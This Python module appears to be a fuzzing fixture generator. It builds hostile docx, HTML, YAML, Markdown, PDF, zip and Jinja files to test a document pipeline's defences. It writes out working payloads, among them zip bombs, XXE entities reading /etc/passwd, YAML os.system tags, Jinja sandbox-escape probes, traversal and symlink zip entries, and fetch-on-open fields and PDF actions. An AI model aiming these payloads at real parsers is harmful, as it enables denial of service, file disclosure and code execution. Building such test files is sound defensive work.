"""Files of strangers who mean harm, by seed: bombs, fetching, nesting, false names, broken lists.

Every kind of harm is a function; what it draws makes the many. Addresses lead to ``where``, a port of this
machine where somebody listens, and to files of it.
"""

import io
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from random import Random

from damaging import Damaged, Seeds, archive, part
from tampering import small_pdf

Harm = Callable[[Seeds, Random, str], bytes]

_MAIN, _STYLES, _TYPES, _LINKS = (
    *("word/document.xml", "word/styles.xml"),
    *("[Content_Types].xml", "word/_rels/document.xml.rels"),
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NAMES = (
    "../../evil.txt",
    "/etc/evil",
    "..\\..\\evil.txt",
    "C:\\evil.txt",
    "CON",
    "aux.xml",
    "NUL.",
    "a:b",
    "a\0b",
)
_MB = 1 << 20


def hostile_files(seeds: Seeds, count: int, where: str, *, templates: bool = True) -> Iterator[Damaged]:
    """So many files, every kind of harm in turn.

    Args:
        seeds: sound reports by suffix.
        count: how many in all.
        where: host and port that nothing may ask.
        templates: False to leave out the Word templates.
    """
    kinds = [kind for kind in HARMS if templates or kind != "template"]
    harms = [(kind, name, harm) for kind in kinds for name, harm in HARMS[kind].items()]
    for number in range(count):
        kind, name, harm = harms[number % len(harms)]
        draw = Random(f"hostile {kind} {name} {number // len(harms)}")
        suffix = "template.docx" if kind == "template" else kind
        yield Damaged(f"{name.replace(' ', '_')}{number}.{suffix}", harm(seeds, draw, where), True)


# ── Word ─────────────────────────────────────────────────────────────────────────────────────────────


def _in_body(seeds: Seeds, content: str) -> bytes:
    document = part(seeds, _MAIN).decode()
    at = document.index(">", document.index("<w:body")) + 1
    return archive(seeds, {_MAIN: (document[:at] + content + document[at:]).encode()})


def _nested(seeds: Seeds, draw: Random, _where: str) -> bytes:
    name, depth = (
        draw.choice(["w:sdt", "w:tbl", "w:ins", "w:bdo", "w:p", "mc:x"]),
        draw.choice([90, 240, 3_000]),
    )
    return _in_body(seeds, f"<{name}>" * depth + f"</{name}>" * depth)


def _attributes(seeds: Seeds, draw: Random, _where: str) -> bytes:
    long = draw.choice("a7 &").replace("&", "&amp;") * draw.choice([10_000, 2 * _MB])
    many = "".join(f' w:a{number}="7"' for number in range(draw.choice([50, 5_000])))
    return _in_body(seeds, f'<w:p{many} w:b="{long}"/>')


def _cyclic_styles(seeds: Seeds, draw: Random, _where: str) -> bytes:
    size = draw.choice([1, 2, 50, 4_000])
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="c{n}"><w:basedOn w:val="c{(n + 1) % size}"/></w:style>'
        for n in range(size)
    )
    content = part(seeds, _STYLES).decode().replace("</w:styles>", f"{styles}</w:styles>")
    document = part(seeds, _MAIN).decode().replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="c0"/></w:pPr>')
    return archive(seeds, {_STYLES: content.encode(), _MAIN: document.encode()})


def _zip_bomb(seeds: Seeds, draw: Random, _where: str) -> bytes:
    name = draw.choice([_MAIN, _STYLES, _TYPES, _LINKS, "word/media/a.png", "docProps/core.xml", "a/b.xml"])
    return archive(seeds, {name: draw.choice([b"\0", b" ", b"<a>"]) * (draw.choice([18, 70]) * _MB // 3)})


def _entities(seeds: Seeds, draw: Random, where: str) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "哈"}">' for n in range(12))
    kinds = (laughs, f'<!ENTITY l11 SYSTEM "http://{where}/x">', '<!ENTITY l11 SYSTEM "file:///etc/passwd">')
    name = draw.choice([_MAIN, _STYLES, "[Content_Types].xml", _LINKS])
    content = part(seeds, name).decode()
    at = content.index("?>") + 2 if content.startswith("<?") else 0
    doctype = f"<!DOCTYPE a [{draw.choice(kinds)}]>"
    return archive(
        seeds, {name: (content[:at] + doctype + content[at:].replace("</w:t>", "&l11;</w:t>", 1)).encode()}
    )


def _outside(seeds: Seeds, draw: Random, where: str) -> bytes:
    kind = draw.choice(
        ["image", "attachedTemplate", "oleObject", "subDocument", "frame", "hyperlink", "font"]
    )
    target = draw.choice(
        [f"http://{where}/{kind}", f"\\\\{where}\\a", "file:///etc/passwd", "../../../etc/passwd"]
    )
    mode = draw.choice([' TargetMode="External"', ""])
    entry = f'<Relationship Id="rX" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    links = part(seeds, _LINKS).decode().replace("</Relationships>", entry)
    return archive(seeds, {_LINKS: links.encode()})


def _fetching_field(seeds: Seeds, draw: Random, where: str) -> bytes:
    kind = draw.choice(["INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "LINK", "DATABASE", "IMPORT"])
    spelt = draw.choice([kind, kind.lower(), f" {kind}", f"QUOTE {{{kind}}}"])
    return _in_body(seeds, f"<w:p><w:fldSimple w:instr='{spelt} \"http://{where}/f\"'/></w:p>")


def _many(seeds: Seeds, draw: Random, _where: str) -> bytes:
    return _in_body(
        seeds,
        draw.choice(
            [
                "<w:p/>" * 190_000,
                "<w:p><w:r><w:t>件</w:t></w:r></w:p>" * 60_000,
                "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 60_000 + "</w:tr></w:tbl>",
                '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>' * 50_000,
                "<w:p>" + "<w:r><w:t>收到申请1件，</w:t></w:r>" * 50_000 + "</w:p>",
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc></w:tr></w:tbl>',
            ]
        ),
    )


def _false_names(seeds: Seeds, draw: Random, _where: str) -> bytes:
    return archive(seeds, {draw.choice(_NAMES): b"evil", draw.choice(_NAMES).lower(): b"evil"})


def _vast_picture(seeds: Seeds, draw: Random, _where: str) -> bytes:
    side = draw.choice([20_000, 60_000, 2**31 - 1]).to_bytes(4, "big")
    head = b"\0\0\0\rIHDR" + side * 2 + b"\x08\2\0\0\0"
    png = b"\x89PNG\r\n\x1a\n" + head + zlib.crc32(head[4:]).to_bytes(4, "big")
    return archive(seeds, {"word/media/vast.png": png})


def _linked_entry(seeds: Seeds, draw: Random, _where: str) -> bytes:
    entry = zipfile.ZipInfo(draw.choice([_STYLES, "word/link.xml"]))
    entry.external_attr = 0o120777 << 16
    return _rezipped(archive(seeds, {}), entry, b"/etc/passwd")


def _rezipped(content: bytes, entry: zipfile.ZipInfo, words: bytes) -> bytes:
    held = io.BytesIO(content)
    with zipfile.ZipFile(held, "a") as package, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # a name that stands twice, as is meant
        package.writestr(entry, words)
    return held.getvalue()


def _numbering(seeds: Seeds, draw: Random, _where: str) -> bytes:
    start = draw.choice(["-1", "999999999999", "x", "2147483647"])
    level = f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:lvlText w:val="{"%1" * 5_000}"/></w:lvl>'
    spaces = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    lists = f'<w:abstractNum w:abstractNumId="1">{level}</w:abstractNum>'
    numbers = (
        f'<w:numbering {spaces}>{lists}<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    block = '<w:p><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>'
    document = _in_body(seeds, block * draw.choice([1, 300]))
    with zipfile.ZipFile(io.BytesIO(document)) as package:
        return archive(seeds, {_MAIN: package.read(_MAIN), "word/numbering.xml": numbers.encode()})


# ── text ─────────────────────────────────────────────────────────────────────────────────────────────


def _html(before: Callable[[Random, str], str]) -> Harm:
    return lambda seeds, draw, where: before(draw, where).encode() + seeds["html"]


_HTML: dict[str, Harm] = {
    "nested": _html(lambda draw, _: f"<{draw.choice(['b', 'div', 'table><tr><td', 'a', 'svg'])}>" * 9_000),
    "attributes": _html(lambda draw, _: "<p " + draw.choice("ab") + '="' + "7" * 900_000 + '">'),
    "many attributes": _html(
        lambda draw, _: "<p " + " ".join(draw.choice("xyz") + f"{n}=7" for n in range(60_000)) + ">"
    ),
    "spans": _html(
        lambda draw, _: f'<table><tr><td colspan={draw.choice([9999, 10**9])} rowspan="99999">7</table>'
    ),
    "addresses": _html(
        lambda draw, where: "".join(
            f'<{tag} src="http://{where}/h" href="http://{where}/h" background="http://{where}/b">'
            for tag in draw.sample(["img", "link", "script", "iframe", "base", "object", "body", "embed"], 6)
        )
    ),
    "entities": _html(
        lambda draw, _: (
            "<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;" + "&amp;" * draw.choice([9, 99_000])
        )
    ),
    "charset": _html(
        lambda draw, _: '<meta charset="' + draw.choice(["zip", "rot13", "utf-7", "idna", "\0"]) + '">'
    ),
    "signs": _html(
        lambda draw, _: "<p>" + draw.choice(["\u3000", "\xa0", "\u2028", "7", "县（市、区）"]) * 40_000
    ),
    "comment": _html(lambda draw, _: draw.choice(["<!--", "<![CDATA[", "<?", "</", "<!"]) * 60_000),
}


def _yaml(more: Callable[[Random, str], str]) -> Harm:
    return lambda seeds, draw, where: seeds["yaml"] + more(draw, where).encode()


_YAML: dict[str, Harm] = {
    "tags": _yaml(
        lambda draw, where: f"\n甲: !!python/object/apply:{draw.choice(['os.system', 'eval'])} ['{where}']\n"
    ),
    "nested": _yaml(
        lambda draw, _: "\n甲: " + draw.choice(["[", "{a: ", "- ", "? "]) * draw.choice([90, 20_000])
    ),
    "aliases": _yaml(
        lambda draw, _: (
            "\na0: &a0 [x, x]\n"
            + "".join(
                f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, draw.choice([9, 40]))
            )
        )
    ),
    "jinja": lambda seeds, draw, _: seeds["yaml"].replace(
        "存在问题: |\n".encode(),
        "存在问题: |\n  {{{{ {} }}}}\n".format(
            draw.choice(
                [
                    "'a'*10**9",
                    "9**9**9",
                    "[].__class__.__base__",
                    "range(10**9)|list",
                    "申请" + "|upper" * 9_000,
                ]
            )
        ).encode(),
        1,
    ),
    "keys": _yaml(lambda draw, _: "\n" + "".join(f"{draw.choice('甲乙')}{n}: 7\n" for n in range(15_000))),
    "long key": _yaml(
        lambda draw, _: f"\n{draw.choice('甲a')}" * draw.choice([5, 400]) + "7" * 200_000 + ": 7\n"
    ),
    "numbers": lambda seeds, draw, _: seeds["yaml"].replace(
        b": 1", b": " + b"9" * draw.choice([20, 5_000, 300_000]), 3
    ),
    "encoding": lambda seeds, draw, _: (
        draw.choice([b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf", b"\0"]) + seeds["yaml"]
    ),
    "claims": lambda seeds, draw, _: seeds["yaml"].replace(
        "存在问题: |\n".encode(),
        (
            "存在问题: |\n  "
            + draw.choice(["收到申请1件，", "予以公开1件，部分公开2件，", "县（市、区）"]) * 5_000
            + "\n"
        ).encode(),
        1,
    ),
}
_MD: dict[str, Harm] = {
    "nested": lambda seeds, draw, _: (
        seeds["md"] + (draw.choice(["> ", "- ", "**", "[", "* "]) * 30_000).encode()
    ),
    "table": lambda seeds, draw, _: (
        seeds["md"] + (f"\n|{'7|' * draw.choice([500, 90_000])}\n|{'-|' * 500}\n").encode()
    ),
    "links": lambda seeds, draw, where: (
        seeds["md"] + f"\n![a](http://{where}/m){draw.choice('ab')}\n".encode() * 9_000
    ),
    "signs": lambda seeds, draw, _: seeds["md"] + (draw.choice("\u3000\xa0\u2028７") * 100_000).encode(),
}


# ── PDF ──────────────────────────────────────────────────────────────────────────────────────────────


def _pdf(objects: str, trailer: str = "/Root 1 0 R", packed: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n" + objects.encode() + packed
    table = f"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 9 {trailer}>>\nstartxref\n{len(body) + 1}\n%%EOF"
    return body + b"\n" + table.encode()


_CATALOG = "1 0 obj<</Type/Catalog/Pages 2 0 R{}>>endobj\n"
_PAGES = "2 0 obj<</Type/Pages/Kids[{}]/Count {}>>endobj\n"


def _packed_stream(draw: Random, _where: str) -> bytes:
    packer = zlib.compressobj(9)
    size = draw.choice([100, 200])
    packed = b"".join([*(packer.compress(bytes(_MB)) for _ in range(size)), packer.flush()])
    twice = draw.random() < 0.5
    packed = zlib.compress(packed) if twice else packed
    filters = "[/FlateDecode/FlateDecode]" if twice else "/FlateDecode"
    head = f"4 0 obj<</Length {len(packed)}/Filter{filters}>>stream\n".encode()
    page = "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
    return _pdf(
        _CATALOG.format("") + _PAGES.format("3 0 R", 1) + page, packed=head + packed + b"\nendstream endobj\n"
    )


def _with_actions(where: str, draw: Random) -> str:
    kind = draw.choice(["/URI/URI", "/Launch/F", "/GoToR/F", "/SubmitForm/F", "/ImportData/F"])
    return f"/OpenAction<</S{kind}(http://{where}/pdf)>>"


_PDFS: dict[str, Callable[[Random, str], bytes]] = {
    "endless pages": lambda draw, _: _pdf(
        _CATALOG.format("") + _PAGES.format("2 0 R " * draw.choice([1, 500]), 9)
    ),
    "false count": lambda draw, _: _pdf(_CATALOG.format("") + _PAGES.format("", draw.choice([-1, 10**9]))),
    "endless xref": lambda draw, _: _pdf(
        _CATALOG.format(""), f"/Root 1 0 R/Prev {draw.choice([9, 60, 61, 62, 100])}"
    ),
    "no root": lambda draw, _: _pdf(
        _CATALOG.format(""), draw.choice(["/Root 9 0 R", "", "/Root<<>>", "/Root[1 0 R]"])
    ),
    "nested arrays": lambda draw, _: _pdf(
        _CATALOG.format("/A" + draw.choice(["[", "<</A"]) * draw.choice([300, 90_000])) + _PAGES.format("", 0)
    ),
    "itself": lambda draw, _: _pdf(
        _CATALOG.format(f"/AcroForm<</Fields[{'1 0 R ' * draw.choice([1, 9_000])}]>>")
    ),
    "actions": lambda draw, where: _pdf(_CATALOG.format(_with_actions(where, draw)) + _PAGES.format("", 0)),
    "packed": _packed_stream,
    "cut": lambda draw, _: small_pdf()[: draw.randrange(20, len(small_pdf()))],
    "bits": lambda draw, _: bytes(
        each ^ (draw.random() < 0.01) * draw.randrange(256) for each in small_pdf()
    ),
    "many objects": lambda draw, _: _pdf(
        _CATALOG.format("")
        + _PAGES.format("", 0)
        + "".join(f"{n} 0 obj{draw.choice(['7', '[]'])}endobj\n" for n in range(9, 40_000))
    ),
    "false range": lambda draw, _: _pdf(
        _CATALOG.format("/AcroForm<</SigFlags 3/Fields[3 0 R]>>")
        + _PAGES.format("", 0)
        + "3 0 obj<</FT/Sig/T(a)/V<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange["
        + draw.choice(["0 0 0 0", "0 -1 5 9", "0 999999999999 1 1", "0 9", "a b c d"])
        + f"]/Contents<{'00' * draw.choice([1, 9_000])}>>>>>endobj\n"
    ),
}


# ── zip files of an archive ──────────────────────────────────────────────────────────────────────────


def _zipped(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in entries:
            package.writestr(name, content)
    return held.getvalue()


def _link(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry


_ZIPS: dict[str, Callable[[Random, str], bytes]] = {
    "names": lambda draw, _: _zipped(
        *((name, b"evil") for name in draw.sample(_NAMES, 4)), ("manifest.json", b"{}")
    ),
    "links": lambda draw, _: _zipped(
        (_link("manifest.json"), b"/etc/passwd"), (_link(draw.choice("ab")), b"..")
    ),
    "bomb": lambda draw, _: _zipped(("a", bytes(draw.choice([60, 150]) * _MB)), ("manifest.json", b"{}")),
    "many": lambda draw, _: _zipped(*((f"{n}{draw.choice('ab')}", b"") for n in range(20_000))),
    "deep list": lambda draw, _: _zipped(("manifest.json", draw.choice([b"[", b'{"a":']) * 90_000)),
    "big numbers": lambda draw, _: _zipped(
        ("manifest.json", b'{"files": ' + b"9" * draw.choice([500, 90_000]) + b"}")
    ),
    "in itself": lambda draw, _: _zipped(
        ("a.zip", _zipped(("b.zip", _zipped(("c", bytes(draw.choice([1, 20]) * _MB)))))),
        ("manifest.json", b"[]"),
    ),
    "cut": lambda draw, _: (whole := _zipped(("manifest.json", b"{}" * 500)))[: draw.randrange(len(whole))],
    "bits": lambda draw, _: bytes(
        each ^ (draw.random() < 0.03) * draw.randrange(256) for each in _zipped(("manifest.json", b"{}" * 99))
    ),
}


# ── templates ────────────────────────────────────────────────────────────────────────────────────────

_JINJA = (
    *("{{ 1/0 }}", "{{ 'a'*10**9 }}", "{{ [0]*999999999 }}", "{{ 9**9**9 }}", "{{ '%999999999d' % 1 }}"),
    *(
        "{% include '/etc/passwd' %}",
        "{% import 'a' as b %}",
        "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    ),
    "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    *("{{ ''.__class__.__mro__ }}", "{{ 机关.__init__.__globals__ }}", "{{ '{0.__class__}'.format(1) }}"),
    *(
        "{{ " * 500,
        "{{ 机关|center(999999999) }}",
        "{{ 'a'|urlize }}",
        "{% if %}",
        "{{ (" + "(" * 900 + "1 }}",
    ),
)


def _alone(make: Callable[[Random, str], bytes]) -> Harm:
    """A harm that needs no sound report."""
    return lambda _, draw, where: make(draw, where)


def _template(words: str) -> Harm:
    """A template with some Jinja in a paragraph of its own."""
    block = f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"
    return lambda seeds, draw, _: _in_body(seeds, "<w:p/>" * draw.randrange(3) + block)


HARMS: dict[str, dict[str, Harm]] = {
    "docx": {
        "nested": _nested,
        "attributes": _attributes,
        "cyclic styles": _cyclic_styles,
        "zip bomb": _zip_bomb,
        "entities": _entities,
        "outside": _outside,
        "fetching field": _fetching_field,
        "many": _many,
        "false names": _false_names,
        "vast picture": _vast_picture,
        "linked entry": _linked_entry,
        "numbering": _numbering,
    },
    "html": _HTML,
    "yaml": _YAML,
    "md": _MD,
    "pdf": {name: _alone(make) for name, make in _PDFS.items()},
    "zip": {name: _alone(make) for name, make in _ZIPS.items()},
    "template": {f"jinja {number}": _template(words) for number, words in enumerate(_JINJA)},
}
"""Kind → name of the harm → how a file of it is made."""
